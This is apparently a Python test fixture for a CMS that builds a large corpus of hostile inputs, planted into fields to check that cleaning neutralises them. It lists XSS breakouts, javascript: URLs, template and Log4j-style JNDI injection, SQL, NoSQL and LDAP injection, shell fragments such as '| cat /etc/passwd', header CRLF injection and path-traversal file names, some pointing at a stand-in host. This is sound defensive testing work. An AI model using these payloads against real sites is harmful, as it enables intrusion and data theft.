"""The corpus of S01: texts that try to take over another person's page, email, table or file.

Whatever runs calls ``__hit``: a browser with that function counts the calls, and an HTML parser finds its name.
"""

from dataclasses import dataclass
from itertools import product

from cms.cleaning import clean_text
from tests.cms.hostile import CONTROLS, FORMULAS, LOOKALIKES
from tests.depth import size

# Out of the place where a template puts the words, and then: something that runs.
OUT = ["", '">', "'>", "</textarea>", "</title>", "</script>", "-->", "]]>", "</style>", "</option></select>"]
RUNS = [
    "<script>__hit()</script>", "<img src=x onerror=__hit()>", "<svg onload=__hit()>",
    "<details open ontoggle=__hit()>", "<iframe srcdoc='<script>parent.__hit()</script>'>",
    "<input autofocus onfocus=__hit()>", "<a href=javascript:__hit()>go</a>",
]  # fmt: skip
BREAKOUTS = [out + runs for out, runs in product(OUT, RUNS)]
MARKUP = [
    "<b>bold</b>", "<h1>Big</h1>", "<!-- gone", "<!--><script>__hit()</script>-->", "<a href=//e.example>go</a>",
    "<ScRiPt>__hit()</sCrIpT>", "<script/x>__hit()</script>", "<script\n>__hit()</script\n>",
    "<script src=//e.example/x.js></script>", "<script src=data:,__hit()></script>",
    "<scr<script>ipt>__hit()</scr</script>ipt>", "<<script>__hit()//<</script>", "<script>__hit``</script>",
    "<script type=module>__hit()</script>", "<noscript><p title='</noscript><img src=x onerror=__hit()>'>",
    "<base href=//e.example/>", "<meta http-equiv=refresh content='0;url=//e.example'>",
    "<link rel=stylesheet href=//e>",
    "<style>*{display:none}</style>", "<style>@import'//e.example/x.css';</style>",
    "<object data=//e.example></object>",
    "<embed src=//e.example>", "<frameset onload=__hit()>", "<marquee onstart=__hit()>m</marquee>",
    "<form action=//e.example><input name=key></form>", "<button formaction=javascript:__hit()>Go</button>",
    "<textarea>", "</main></body></html>", "<plaintext>", "<xmp><script>__hit()</script></xmp>", "<template><b>x",
    "<isindex type=image src=x onerror=__hit()>", "<video><source onerror=__hit()></video>",
    "<audio src=x onerror=__hit()>", "<body onload=__hit()>", "<dialog open>x</dialog>", "<table><td>x",
    "<p hidden>",
    "<x onclick=__hit() tabindex=1 autofocus onfocus=__hit()>x</x>", "<img src=x:x onerror\n=\n__hit()>",
    "<img/src=x/onerror=__hit()>", '<img src="x` `<script>__hit()</script>"` `>',
    "<img src=x onerror=&#95;_hit(30)>",
    "<a href='&#106;avascript:__hit()'>a</a>", "<a href=javascript&colon;__hit()>a</a>", "<p is=x-hit slot=x>",
    "<a href='java\tscript:__hit()'>a</a>", "<a href=' javascript:__hit()'>a</a>", "<a ping=//e href=#>p</a>",
    "<iframe src=javascript:__hit()></iframe>", "<iframe src='data:text/html,<script>parent.__hit()</script>'>",
    "<math><mtext><mglyph><style><!--</style><img title='--><img src=x onerror=__hit()>'>",
    "<math><maction actiontype=statusline xlink:href=javascript:__hit()>m</maction></math>",
    "<math href=javascript:__hit()>m</math>", "<svg><script>__hit()</script></svg>",
    "<svg><a xlink:href=javascript:__hit()><text>t</text></a></svg>",
    "<svg><use href=data:image/svg+xml,x#x></svg>",
    "<svg><animate onbegin=__hit() attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:__hit()>",
    "<svg><foreignObject><script>__hit()</script></foreignObject></svg>", "<svg><style><img src=x onerror=__hit()>",
    "<svg><title><img src=x onerror=__hit()></title></svg>", "<svg><desc></svg><img src=x onerror=__hit()>",
    "<?xml version='1.0'?><x/>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/hosts'>]>&e;", "<?php echo 1 ?>",
    "<% 1 %>",
    "<![CDATA[<script>__hit()</script>]]>", "<xss style=behavior:url(x.htc)>",
    "<div style=width:expression(__hit())>",
]  # fmt: skip
ATTRIBUTES = [
    f"{quote}{space}{name}={value} x={quote}"
    for quote, space, (name, value) in product(
        ['"', "'", "`"], [" ", "/", "\t"],
        [("onmouseover", "__hit()"), ("onfocus", "__hit() autofocus"), ("style", "x:url(//e)"), ("onerror", "__hit()")],
    )
]  # fmt: skip
ADDRESSES = [
    "javascript:__hit()", "JaVaScRiPt:__hit()", "java\nscript:__hit()", "javascript://%0a__hit()",
    "javascript:/*--></title></style></textarea></script><svg/onload=__hit()>", "vbscript:__hit()",
    "data:text/html,<script>__hit()</script>", "data:text/html;base64,PHNjcmlwdD5fX2hpdCgpPC9zY3JpcHQ+",
    "//e.example",
    "https://e.example/<script>__hit()</script>", "https://e.example/'onclick='__hit()", "\\\\e.example\\x",
    "https://user:pw@e.example/", "http://127.0.0.1/", "file:///etc/passwd", "blob:x", "view-source:x",
    "ftp://e.example",
    "[go](javascript:__hit())", "![x](x\"onerror=\"__hit())", "<javascript:__hit()>",
    "www.e.example\"onclick=__hit()",
    "a@e.example?subject=x&bcc=all", "mailto:a@e.example?body=<script>__hit()</script>", "tel:+1;ext=<b>",
    "../../x",
]  # fmt: skip
TEMPLATES = [
    "{{ 7|add:7 }}", "{% debug %}", "{% load static %}", "{% include '/etc/hosts' %}", "{# gone #}",
    "{{ settings.SECRET_KEY }}",
    "${__hit()}", "#{7*7}", "<%= 7*7 %>", "${{7*7}}", "{{constructor.constructor('__hit()')()}}", "{{7*'7'}}",
    "@{7*7}", "*{7*7}", "~{x}", "[[7*7]]", "${jndi:ldap://e.example/x}", "{{ csrf_token }}", "{% csrf_token %}",
    "{%endblock%}",
    "{0}", "{}", "{count}", "{0.__class__}", "{x.__init__.__globals__}", "%(words)s", "%(kind)d", "%n%n%n",
    "%s%p%x", "$x $$",
    "%", "%%", "100%(", "\\1\\g<0>", "\\u003cscript\\u003e", "\\x3cscript\\x3e",
    "%3Cscript%3E__hit()%3C/script%3E", "%00", "$(id)",
    "`id`", "; ls", "| cat /etc/passwd", "&& id", "$(__hit x)", "\\", "\\\\", "\\'", '\\"', "\\n", "^", "!",
    "*", "?", "~",
]  # fmt: skip
QUERIES = [
    "' OR 1=1 --", "'; DROP TABLE feedback_form; --", '" OR ""="', "1) UNION SELECT 1 --", "%' AND 1=1 --",
    "_%_%", "\\%",
    "x' || 'y", "/* x */", "' AND sleep(5) --", "\";SELECT pg_sleep(5);--", "NEAR(", "a* OR b", '"unclosed',
    "col:x", "-x", "^x",
    "a AND (b", "''", "1;--", "' ORDER BY 99 --", "$$x$$", "E'\\x'", "a & b | !c", "<-> a", "a:*", "{a b} : c",
    "NOT",
    "{\"$ne\":1}", "*)(uid=*))(|(uid=*", "' or count(/*)=1 or '",
]  # fmt: skip
IN_SCRIPT = [
    "</script><script>__hit()</script>", "'-__hit()-'", '"-__hit()-"', "\\'-__hit()//", "`+__hit()+`",
    '{"__proto__":{"x":1}}', '"}],"x":[{"', "\u2028__hit()", "<!--<script>", "*/__hit()/*", "//__hit()",
    "[object Object]",
    "undefined", "constructor", "__proto__", "toString", "NaN", "-0", "\\u2028", "'+alert(1)+'", '"});__hit();({"',
]  # fmt: skip
ENTITIES = [
    "&lt;script&gt;__hit()&lt;/script&gt;", "&amp;lt;b&amp;gt;", "&", "&amp;", "&#60;b&#62;", "&#x3c;b&#x3e;",
    "&quot;", "&#39;",
    "&nbsp;", "&copy", "&notit;", "&#0;", "&#x110000;", "&#128;", "&lt", "&e;", "&&&", "&amp;amp;",
    "&NewLine;x", "&Tab;x",
]  # fmt: skip
STYLES = [
    "x;background:url(//e.example)", "}*{display:none}", "expression(__hit())", "\\75rl(x)",
    "</style><img src=x onerror=__hit()>",
    "color:red;position:fixed;inset:0", "@import '//e.example';", "-moz-binding:url(x)", "var(--x)",
    "red hidden", "x y z",
]  # fmt: skip
UNSEEN = [
    "\u202egnp.exe", "\u202a\u202bab\u202c\u202c", "\u2066x\u2069", "a\u200bb", "a\u200db", "a\u00adb",
    "\u200f(x)\u200e", "\u2067", "x\u202d",
    "p\u0430ypal", "Z\u0351\u0352\u0353a\u0300\u0301\u0302l", "\ufdfd" * 3, "＜script＞__hit()＜/script＞", "‹b›",
    "ﬁ", "K", "ſcript", "İ",
    "\u00a0\u2003x\u3000", "\u0e49" * 9, "\U000e0041", "\ufe0f", "\u115f", "\u3164", "🏴\U000e0067\U000e007f",
    "\U0001f468\u200d\U0001f4bb",
]  # fmt: skip
LETTERS = [
    "a@e.example\r\nBcc: all@e.example", "x\nSubject: y", "x\r\n\r\n<script>__hit()</script>", "=?utf-8?b?eA==?=",
    "x\r\nContent-Type: text/html", ".\r\nQUIT", "--boundary", "From x", "%0d%0aBcc:all@e.example",
    "x\nSet-Cookie: a=b",
    "x;filename=y", 'x"; filename="y.html', "END:VEVENT\nEND:VCALENDAR", "x\\nATTACH:javascript:__hit()",
    "x,y;z:w", "DTSTART:1",
]  # fmt: skip
NAMES_OF_FILES = [
    "../../etc/passwd", "..\\..\\x.exe", "x.pdf.exe", "x.html", "x.svg", "con", "nul.txt", ".htaccess",
    "x.php;.png", "x\u202efdp.exe",
    "x%00.png", "x\n.pdf", '"><img src=x onerror=__hit()>.pdf', "a;b.pdf", "a'b.pdf", "~/.ssh", "C:\\x",
    "x::$DATA", "-rf", "x .pdf",
]  # fmt: skip
PAGES = [
    *BREAKOUTS, *MARKUP, *ATTRIBUTES, *ADDRESSES, *TEMPLATES, *QUERIES, *IN_SCRIPT, *ENTITIES, *STYLES, *UNSEEN,
    *LETTERS,
    *NAMES_OF_FILES,
]  # fmt: skip
SHEETS = [*FORMULAS, *LOOKALIKES, *CONTROLS]
OPEN, CLOSE = "«h{}»", "«/h»"
LETTERS_OF_NUMBERS = str.maketrans("0123456789", "abcdefghij")


@dataclass(frozen=True)
class Hostile:
    """One text; `marked` is what is typed, so that it can be found again, whole, wherever it is shown."""

    number: int
    typed: str

    @property
    def name(self) -> str:
        """Its number in letters: a finding takes no digits."""
        return str(self.number).translate(LETTERS_OF_NUMBERS)

    @property
    def marked(self) -> str:
        return OPEN.format(self.name) + self.typed + CLOSE

    @property
    def kept(self) -> str:
        """What stays of it after the documented cleaning at the door (cms/cleaning.py)."""
        return clean_text(self.marked).removeprefix(OPEN.format(self.name)).removesuffix(CLOSE)


def corpus(*, longest: int = 150) -> list[Hostile]:
    """Each text once. A control sign inside the marks stays inside them."""
    texts = dict.fromkeys([*PAGES, *SHEETS])
    return [Hostile(number, text) for number, text in enumerate(texts) if len(text) <= longest]


def to_plant() -> list[Hostile]:
    """One in four, some of each kind; the deep suite plants all."""
    return corpus()[:: size(4, 1)]


def for_narrow_fields(words: list[Hostile]) -> list[Hostile]:
    """Without those that aim at spreadsheets: a field of 80 letters takes two words at a time."""
    pages = len(dict.fromkeys(PAGES))
    return [each for each in words if each.number < pages]


def packed(limit: int, words: list[Hostile]) -> list[str]:
    """All that fit into a field of this length, as many together as fit; what is longer than it is left out."""
    packs: list[str] = [""]
    for each in words:
        if len(each.marked) > limit - 2:
            continue
        longer = f"{packs[-1]} {each.marked}".strip()
        packs.append(each.marked) if len(longer) > limit - 2 else packs.__setitem__(-1, longer)
    return packs
